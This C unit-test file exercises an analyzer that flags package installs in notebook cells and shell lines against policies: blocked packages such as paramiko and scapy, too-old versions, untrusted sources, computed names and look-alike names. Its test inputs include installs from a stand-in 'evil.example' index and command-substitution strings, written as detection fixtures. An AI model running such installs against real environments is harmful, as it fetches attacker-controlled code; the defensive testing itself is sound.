/* SPDX-License-Identifier: MIT
 * Installs of packages, in every spelling, under policies for packages. */
#include "analyzer/analyze.h"
#include "tests/unit/unit.h"

static const char text[] =
    "version: 1\nname: x\nlanguages: [python, javascript, shell]\n"
    "shell: {allow: [\"*\"]}\n"
    "packages:\n"
    "  pip: {mode: blocklist, block: [paramiko, \"scapy*\"], minimum: {numpy: 1.22.2}, sources: "
    "[index], indexes: [default, \"https://pypi.example.org/\"]}\n"
    "  npm: {mode: allowlist, allow: [lodash, \"@types/*\"], minimum: {lodash: 4.17.21}, sources: "
    "[index], indexes: [default]}\n"
    "rules:\n"
    "  - {id: blocked, match: {fact: package-blocked}}\n"
    "  - {id: unlisted, match: {fact: package-not-listed}}\n"
    "  - {id: below, match: {fact: package-below-minimum}}\n"
    "  - {id: source, match: {fact: package-source}}\n"
    "  - {id: unresolved, match: {fact: package-unresolved}}\n"
    "  - {id: alike, match: {fact: package-look-alike}}\n"
    "  - {id: magic, match: {fact: magic-not-listed}}\n";

/* The first rule that a cell meets, or "". */
static const char *first_rule(const struct cbx_policy *policy, const char *cell)
{
    static char id[65];
    CBX_AUTO_DONE(arena) arena;
    cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
    struct cbx_analysis request = { .source = cbx_str_of(cell), .language = CBX_STR("ipython") };
    struct cbx_decision decision;
    struct cbx_err err;
    assert_int_equal(cbx_analyze(policy, &request, &arena, &decision, &err), 0);
    snprintf(id, sizeof(id), "%.*s",
             decision.finding_count > 0 ? (int)decision.findings[0].rule->id.len : 0,
             decision.finding_count > 0 ? decision.findings[0].rule->id.p : "");
    return id;
}

struct install {
    const char *cell, *rule;
};

static void check(const struct install *cases, size_t count)
{
    CBX_AUTO(policy) policy = NULL;
    struct cbx_err err = { 0 };
    assert_int_equal(cbx_policy_parse(cbx_str_of(text), "mine", &policy, &err), 0);
    size_t wrong = 0;
    for (size_t i = 0; i < count; i++) {
        const char *rule = first_rule(policy, cases[i].cell);
        if (strcmp(rule, cases[i].rule) != 0) {
            print_error("%s: '%s', expected '%s'\n", cases[i].cell, rule, cases[i].rule);
            wrong++;
        }
    }
    assert_int_equal(wrong, 0);
}
#define CHECK(cases) check(cases, sizeof(cases) / sizeof(cases[0]))

static void reads_every_spelling_of_an_install(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install paramiko", "blocked" },
        { "!pip3 install paramiko", "blocked" },
        { "!pip3.12 install paramiko", "blocked" },
        { "%pip install paramiko", "blocked" },
        { "%pip --quiet install paramiko", "blocked" },
        { "x = !pip install paramiko", "blocked" },
        { "!!pip install paramiko", "blocked" },
        { "%%bash\npip install paramiko\n", "blocked" },
        { "%system pip install paramiko", "blocked" },
        { "!python -m pip install paramiko", "blocked" },
        { "!python3 -m pip install -q paramiko", "blocked" },
        { "!pip install -U numpy paramiko", "blocked" },
        { "!pip install Paramiko", "blocked" },
        { "!pip install 'paramiko[all]>=2'", "blocked" },
        { "!pip install \"paramiko\"", "blocked" },
        { "!pip download paramiko", "blocked" },
        { "!pip wheel paramiko", "blocked" },
        { "!pip install scapy-ssl", "blocked" },
        { "%conda install paramiko", "blocked" },
        { "!conda install -c defaults -y paramiko", "blocked" },
        { "!mamba install paramiko", "blocked" },
        { "!micromamba install paramiko", "blocked" },
        { "!uv pip install paramiko", "blocked" },
        { "!uv add paramiko", "blocked" },
        { "!pipx install paramiko", "blocked" },
        { "!poetry add paramiko", "blocked" },
        { "!easy_install paramiko", "blocked" },
        { "!ls && pip install paramiko", "blocked" },
        { "!echo $(pip install paramiko)", "blocked" },
        { "!pip install requests", "" },
        { "!pip list", "" },
        { "!pip install --upgrade pip setuptools", "" },
    };
    CHECK(cases);
}

static void asks_whether_a_version_could_be_too_old(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install numpy", "" },
        { "!pip install numpy==1.22.2", "" },
        { "!pip install numpy==1.22.10", "" },
        { "!pip install numpy==1.21.0", "below" },
        { "!pip install 'numpy<1.22'", "below" },
        { "!pip install 'numpy>=1.20,<1.22'", "below" },
        { "!pip install 'numpy >= 1.20'", "" },
        { "!pip install numpy~=1.21.0", "below" },
        { "!pip install NumPy==1.9", "below" },
        { "!pip install 'numpy==1.21.0; python_version > \"3\"'", "below" },
        { "!pip install numpy==banana", "below" },
    };
    CHECK(cases);
}

static void checks_the_source_of_packages(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install git+https://example.org/x.git", "source" },
        { "!pip install https://example.org/x.whl", "source" },
        { "!pip install 'x @ https://example.org/x.whl'", "source" },
        { "!pip install ./x", "source" },
        { "!pip install .", "source" },
        { "!pip install x.whl", "source" },
        { "!pip install -e .", "source" },
        { "!pip install -r requirements.txt", "source" },
        { "!pip install -rrequirements.txt", "source" },
        { "!pip install --requirement=requirements.txt", "source" },
        { "!pip install -qr requirements.txt", "source" },
        { "!pip install -qUrrequirements.txt", "source" },
        { "!pip install -c constraints.txt requests", "source" },
        { "!pip install --index-url https://evil.example/simple requests", "source" },
        { "!pip install --index-url=https://evil.example/simple requests", "source" },
        { "!pip install -i https://evil.example/simple requests", "source" },
        { "!pip install -qi https://evil.example/simple requests", "source" },
        { "!pip install --extra-index-url https://evil.example/ requests", "source" },
        { "!pip install -f https://evil.example/ requests", "source" },
        { "!pip install --trusted-host evil.example requests", "source" },
        { "!pip install -i https://pypi.example.org/simple requests", "" },
        { "!pip install -qU requests", "" },
        { "!pip install --target /tmp/x requests", "" },
    };
    CHECK(cases);
}

static void refuses_names_that_are_computed(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install $NAME", "unresolved" },    { "!pip install {name}", "unresolved" },
        { "!pip install $(cat x)", "unresolved" }, { "!pip install `cat x`", "unresolved" },
        { "!pip install par$x", "unresolved" },
    };
    CHECK(cases);
}

static void reads_installs_of_node_packages(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!npm install lodash", "" },
        { "!npm i lodash@latest", "" },
        { "!npm i @types/node", "" },
        { "!npm i @types/node@18", "" },
        { "!npm install express", "unlisted" },
        { "!npm i -g express", "unlisted" },
        { "!npm add express", "unlisted" },
        { "!yarn add express", "unlisted" },
        { "!pnpm add express", "unlisted" },
        { "!npx cowsay", "unlisted" },
        { "!npm exec cowsay", "unlisted" },
        { "!npm i user/repo", "source" },
        { "!npm i github:user/repo", "source" },
        { "!npm i https://example.org/x.tgz", "source" },
        { "!npm i ./x", "source" },
        { "!npm i --registry https://evil.example/ lodash", "source" },
        { "!npm i $X", "unresolved" },
        /* which versions a range lets in at most */
        { "!npm i lodash@4.17.21", "" },
        { "!npm i lodash@4.17.20", "below" },
        { "!npm i lodash@v3.10.1", "below" },
        { "!npm i lodash@=3.10.1", "below" },
        { "!npm i lodash@^4.0.0", "" },
        { "!npm i lodash@^3.0.0", "below" },
        { "!npm i lodash@~4.16.0", "below" },
        { "!npm i lodash@~4.17.0", "" },
        { "!npm i lodash@4", "" },
        { "!npm i lodash@4.x", "" },
        { "!npm i lodash@3", "below" },
        { "!npm i lodash@3.x", "below" },
        { "!npm i 'lodash@<4'", "below" },
        { "!npm i 'lodash@>=3 <4'", "below" },
        { "!npm i 'lodash@>=3'", "" },
        { "!npm i 'lodash@1.0.0 - 2.0.0'", "below" },
        { "!npm i 'lodash@^3 || ^4'", "" },
        { "!npm i 'lodash@^2 || ^3'", "below" },
        { "!npm i 'lodash@*'", "" },
        { "!npm i lodash@next", "below" }, /* a tag may be anything */
    };
    CHECK(cases);
}

static void reads_the_options_of_pip(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip --log x install paramiko", "blocked" },
        { "!pip --proxy http://p:1 install requests", "source" },
        { "!pip --unknown x install paramiko", "blocked" },
        { "!pip install --target paramiko requests", "" }, /* a folder of that name */
        { "!pip install --no-such-option paramiko", "blocked" },
        { "!pip install -- paramiko", "blocked" },
        { "!pip install --index-u https://evil.example/ requests", "source" }, /* shortened */
        { "!pip install --req=x.txt", "source" },
        { "!pip install -Ur x.txt", "source" },
        { "!pip install -Urx.txt", "source" },
        { "!pip install -vvqi https://evil.example/ requests", "source" },
        { "!pip install -ihttps://pypi.example.org/ requests", "" },
        { "!pip install -i https://user:pw@pypi.example.org requests", "" },
        { "!pip install -i http://pypi.example.org/ requests", "source" },
        { "!pip install -i https://pypi.example.org.evil.example/ requests", "source" },
        { "!pip install -i https://pypi.example.org@evil.example/ requests", "source" },
        { "!pip install --index-url=$X requests", "unresolved" },
        { "!pip install -f ./wheels requests", "source" },
        { "!pip install -f https://pypi.example.org/links requests", "" },
        { "!pip install --no-index requests", "" },
        { "!pip install --python-version 3.6 --no-deps requests", "unresolved" },
        { "!pip install --constraint=c.txt requests", "source" },
        { "!pip install --upgrade paramiko", "blocked" }, /* none of these takes a value */
        { "!pip install --pre paramiko", "blocked" },
        { "!pip install --user paramiko", "blocked" },
        { "!pip install --upg paramiko", "blocked" },
        { "!pip install --pref paramiko", "blocked" },
        { "!pip install --pre requests", "" },
        { "!pip show paramiko", "" },
        { "!pip uninstall -y paramiko", "" },
        { "!pip help install", "" },
        { "!pip", "" },
        { "!pip install", "" },
        { "!pip $X paramiko", "unresolved" },
    };
    CHECK(cases);
}

static void reads_markers_and_extras(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install 'paramiko; sys_platform == \"win32\"'", "" },
        { "!pip install 'paramiko; sys_platform == \"linux\"'", "blocked" },
        { "!pip install 'paramiko; python_version < \"3.8\"'", "blocked" },
        { "!pip install 'paramiko; python_version < \"3\"'", "" },
        { "!pip install 'paramiko; platform_machine == \"arm64\"'", "blocked" },
        { "!pip install 'numpy[x]==1.21'", "below" },
        { "!pip install 'numpy (<1.22)'", "below" },
        { "!pip install 'numpy<=1.22.2,!=1.22.2'", "below" },
        { "!pip install 'numpy<2,!=1.22.2'", "" },
        { "!pip install 'numpy===1.21'", "below" },
        { "!pip install 'requests; nonsense'", "unresolved" },
        { "!pip install 'requests>>1'", "unresolved" },
        { "!pip install requests=1", "unresolved" },
        { "!pip install 'paramiko @ https://h/x.whl'", "blocked" },
        { "!pip install https://h/paramiko-2.0-py3-none-any.whl", "blocked" },
        { "!pip install 'git+https://h/x#egg=paramiko'", "blocked" },
    };
    CHECK(cases);
}

static void reads_other_managers_for_python(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!uv pip install numpy==1.21", "below" },
        { "!uv --quiet pip --color x install paramiko", "blocked" },
        { "!uv pip sync requirements.txt", "source" },
        { "!uv pip list", "" },
        { "!uv tool install paramiko", "blocked" },
        { "!uv tool run paramiko --x requests", "blocked" },
        { "!uv tool run ruff paramiko", "" }, /* paramiko is ruff's */
        { "!uv run --with paramiko x.py", "blocked" },
        { "!uv run --with=requests,paramiko x.py", "blocked" },
        { "!uv run --with 'numpy>=1.20,<1.22' x.py", "below" },
        { "!uv run paramiko", "" },
        { "!uv add --index-url https://evil.example/ requests", "source" },
        { "!uv add --index corp=https://pypi.example.org/ requests", "" },
        { "!uv add --resolution lowest requests", "unresolved" },
        { "!uv sync", "source" },
        { "!uvx paramiko", "blocked" },
        { "!uvx --from paramiko x", "blocked" },
        { "!uvx --from requests paramiko", "" },
        { "!uvx --with requests paramiko", "blocked" },
        { "!uvx --python 3.11 ruff@0.4", "" },
        { "!poetry add --optional paramiko", "blocked" },
        { "!pdm add --prerelease paramiko", "blocked" },
        { "!pipx run --spec paramiko x", "blocked" },
        { "!pipx run paramiko", "blocked" },
        { "!pipx inject x paramiko", "blocked" },
        { "!poetry add numpy@^1.21", "" },
        { "!poetry add numpy@~1.21", "below" },
        { "!poetry add numpy@1.21", "below" },
        { "!poetry add --group dev paramiko", "blocked" },
        { "!poetry add --source corp requests", "source" },
        { "!poetry install", "source" },
        { "!pdm add paramiko", "blocked" },
        { "!pipenv install paramiko", "blocked" },
        { "!pipenv install", "source" },
        { "!conda install numpy=1.21", "below" },
        { "!conda install numpy=1.22", "" },
        { "!conda install numpy==1.22", "below" },
        { "!conda install 'numpy>=1.20,<1.22'", "below" },
        { "!conda install 'numpy[version=\"<1.22\"]'", "below" },
        { "!conda create -n paramiko python=3.11 requests", "" },
        { "!conda create -yn x paramiko", "blocked" },
        { "!conda install -c conda-forge requests", "source" },
        { "!conda install -cconda-forge requests", "source" },
        { "!conda install conda-forge::requests", "source" },
        { "!conda install -c defaults requests", "" },
        { "!conda install --file x.txt", "source" },
        { "!conda env create -f environment.yml", "source" },
        { "!conda list paramiko", "" },
        { "!micromamba create -n x -c defaults paramiko", "blocked" },
        { "!python -m python -m pip install paramiko", "blocked" },
    };
    CHECK(cases);
}

static void reads_other_managers_for_node(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!npm i", "source" },
        { "!npm ci", "source" },
        { "!npm clean-install", "source" },
        { "!npm install --production", "source" },
        { "!npm --foo bar i express", "unlisted" },
        { "!npm --prefix x i lodash", "" },
        { "!npm -C x i express", "unlisted" },
        { "!npm install --global express", "unlisted" },
        { "!npm install --glob express", "unlisted" },
        { "!pnpm add -w express", "unlisted" },
        { "!pnpm add --workspace express", "unlisted" },
        { "!npm i --save-dev lodash", "" },
        { "!npm i x@npm:lodash@4.17.20", "below" },
        { "!npm i lodash@npm:express", "unlisted" },
        { "!npm i lodash@user/repo", "below" },
        { "!npm i git@github.com:user/repo.git", "source" },
        { "!npm i lodash@file:../lodash", "below" },
        { "!npm i --@s:registry=https://evil.example/ lodash", "source" },
        { "!npm i --userconfig x lodash", "source" },
        { "!npm i --before 2015-01-01 lodash", "unresolved" },
        { "!npm i 'lod ash'", "unlisted" },
        { "!npm exec --package=lodash -- express", "" },
        { "!npm exec -p express -- x", "unlisted" },
        { "!npm init express", "unlisted" },
        { "!npm init", "" },
        { "!npx -p lodash express", "" },
        { "!npx --yes lodash express", "" },
        { "!npx lodash@3", "below" },
        { "!bunx express", "unlisted" },
        { "!pnpm dlx express", "unlisted" },
        { "!pnpm i", "source" },
        { "!yarn install", "source" },
        { "!yarn global add express", "unlisted" },
        { "!yarn dlx express", "unlisted" },
        { "!bun add express", "unlisted" },
        { "!bun i", "source" },
        { "!npm ls express", "" },
        { "!npm view express", "" },
        { "!npm run install", "" },
    };
    CHECK(cases);
}

static void finds_blocked_packages_at_imports(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "import paramiko", "blocked" },
        { "import paramiko.client as c", "blocked" },
        { "from paramiko import SSHClient", "blocked" },
        { "__import__('para' + 'miko')", "blocked" },
        { "from scapy.all import sniff", "blocked" },
        { "import requests", "" },
        { "from . import paramiko", "" },
        { "paramiko = 3", "" },
    };
    CHECK(cases);
}

static void counts_an_import_only_when_nothing_else_could_give_it(void **state)
{
    (void)state;
    static const char policy_text[] =
        "version: 1\nname: x\nlanguages: [python, javascript]\n"
        "packages:\n"
        "  pip: {mode: blocklist, block: [pycrypto, opencv-python, \"opencv_*\", typing, Pillow]}\n"
        "  npm: {mode: blocklist, block: [shelljs, \"@evil/*\", fs]}\n"
        "rules:\n  - {id: blocked, match: {fact: package-blocked}}\n";
    static const struct {
        const char *language, *code, *symbol;
    } cases[] = {
        { "python", "import Crypto", "" }, /* pycryptodome has it too */
        { "python", "import cv2", "opencv-python" },
        { "python", "import PIL.Image", "pillow" },
        { "python", "import typing", "" },
        { "python", "import shelljs", "" },
        { "javascript", "require('shelljs')", "shelljs" },
        { "javascript", "import x from 'shelljs/global'", "shelljs" },
        { "javascript", "import x from '@evil/x/y'", "@evil/x" },
        { "javascript", "require('fs')", "" },
        { "javascript", "require('./shelljs')", "" },
    };
    CBX_AUTO(policy) policy = NULL;
    struct cbx_err err = { 0 };
    assert_int_equal(cbx_policy_parse(cbx_str_of(policy_text), "mine", &policy, &err), 0);
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        CBX_AUTO_DONE(arena) arena;
        cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
        struct cbx_analysis request = { .source = cbx_str_of(cases[i].code),
                                        .language = cbx_str_of(cases[i].language) };
        struct cbx_decision d;
        assert_int_equal(cbx_analyze(policy, &request, &arena, &d, &err), 0);
        if (d.finding_count != (cases[i].symbol[0] != '\0') ||
            (d.finding_count > 0 && !cbx_str_is(d.findings[0].symbol, cases[i].symbol))) {
            fail_msg("%s: %zu findings", cases[i].code, d.finding_count);
        }
    }
}

static void reads_files_of_requirements_that_a_cell_writes(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "%%writefile requirements.txt\nrequests\nparamiko>=2 # ssh\n", "blocked" },
        { "%%writefile x/dev-requirements.txt\n# all\nnumpy==1.21 \\\n  --hash=sha256:00\n",
          "below" },
        { "%%writefile requirements.txt\n--index-url https://evil.example/\nrequests\n", "source" },
        { "%%writefile requirements.txt\n-i https://pypi.example.org/\nrequests\n", "" },
        { "%%writefile requirements.txt\n-r other.txt\n", "source" },
        { "%%writefile constraints.txt\nnumpy<1.22\n", "below" },
        { "%%writefile requirements.txt\nparamiko; python_version < \"3\"\n", "" },
        { "%%writefile requirements.txt\n\n# paramiko\nrequests[x]>=2 --hash=sha256:00\n", "" },
        { "%%writefile notes.txt\nparamiko\n", "" },
    };
    CHECK(cases);
}

static void keeps_sources_apart(void **state)
{
    (void)state;
    static const char policy_text[] =
        "version: 1\nname: x\nlanguages: [shell]\nshell: {allow: [\"*\"]}\n"
        "packages: {pip: {mode: blocklist, block: [paramiko], sources: [%s], indexes: [default]}}\n"
        "rules:\n  - {id: source, match: {fact: package-source}}\n"
        "  - {id: blocked, match: {fact: package-blocked}}\n";
    static const struct {
        const char *sources, *line, *rule;
    } cases[] = {
        { "path", "pip install ./x", "" },
        { "path", "pip install -e .", "" },
        { "path", "pip install -e git+https://h/x", "source" },
        { "vcs", "pip install -e git+https://h/x", "" },
        { "vcs", "pip install -e git+https://h/x#egg=paramiko", "blocked" },
        { "vcs", "pip install git+https://h/x", "" },
        { "vcs", "pip install https://h/x.zip", "source" },
        { "url", "pip install https://h/x.zip", "" },
        { "url", "pip install requests", "source" },
        { "index", "pip install requests", "" },
        { "requirements", "pip install -r x.txt", "" },
        { "requirements", "pip install -r https://h/x.txt", "source" },
        { "'requirements', url", "pip install -r https://h/x.txt", "" },
    };
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        char yaml[512];
        snprintf(yaml, sizeof(yaml), policy_text, cases[i].sources);
        CBX_AUTO(policy) policy = NULL;
        struct cbx_err err = { 0 };
        assert_int_equal(cbx_policy_parse(cbx_str_of(yaml), "mine", &policy, &err), 0);
        CBX_AUTO_DONE(arena) arena;
        cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
        struct cbx_analysis request = { .source = cbx_str_of(cases[i].line),
                                        .language = CBX_STR("shell") };
        struct cbx_decision d;
        assert_int_equal(cbx_analyze(policy, &request, &arena, &d, &err), 0);
        if (!cbx_str_is(d.finding_count > 0 ? d.findings[0].rule->id : CBX_STR(""),
                        cases[i].rule)) {
            fail_msg("%s, %s: expected '%s'", cases[i].sources, cases[i].line, cases[i].rule);
        }
    }
}

static void names_the_package_that_a_look_alike_imitates(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "!pip install reqeusts", "alike" },      { "!pip install scapyy", "blocked" },
        { "!conda install scikitlearn", "alike" }, { "!pip install requests", "" },
        { "!npm i lodahs", "unlisted" },
    };
    CHECK(cases);
    CBX_AUTO(policy) policy = NULL;
    CBX_AUTO_DONE(arena) arena;
    struct cbx_err err = { 0 };
    struct cbx_decision d;
    struct cbx_analysis request = { .source = CBX_STR("!pip install nmupy"),
                                    .language = CBX_STR("ipython") };
    cbx_arena_init(&arena, CBX_ANALYSIS_ARENA_MAX);
    assert_int_equal(cbx_policy_parse(cbx_str_of(text), "mine", &policy, &err), 0);
    assert_int_equal(cbx_analyze(policy, &request, &arena, &d, &err), 0);
    assert_int_equal(d.finding_count, 1);
    assert_true(cbx_str_is(d.findings[0].detail, "numpy"));
}

static void a_range_that_follows_a_name_is_no_redirection(void **state)
{
    (void)state;
    static const struct install cases[] = {
        { "%pip install numpy<1.20", "below" },        { "!pip install numpy<1.20 six", "below" },
        { "!pip install numpy>=1.20,<1.22", "below" }, { "%pip install numpy<99", "" },
        { "%pip install numpy >out.txt", "" },
    };
    CHECK(cases);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(reads_every_spelling_of_an_install),
        cmocka_unit_test(asks_whether_a_version_could_be_too_old),
        cmocka_unit_test(checks_the_source_of_packages),
        cmocka_unit_test(refuses_names_that_are_computed),
        cmocka_unit_test(reads_installs_of_node_packages),
        cmocka_unit_test(reads_the_options_of_pip),
        cmocka_unit_test(reads_markers_and_extras),
        cmocka_unit_test(reads_other_managers_for_python),
        cmocka_unit_test(reads_other_managers_for_node),
        cmocka_unit_test(finds_blocked_packages_at_imports),
        cmocka_unit_test(counts_an_import_only_when_nothing_else_could_give_it),
        cmocka_unit_test(reads_files_of_requirements_that_a_cell_writes),
        cmocka_unit_test(keeps_sources_apart),
        cmocka_unit_test(a_range_that_follows_a_name_is_no_redirection),
        cmocka_unit_test(names_the_package_that_a_look_alike_imitates),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
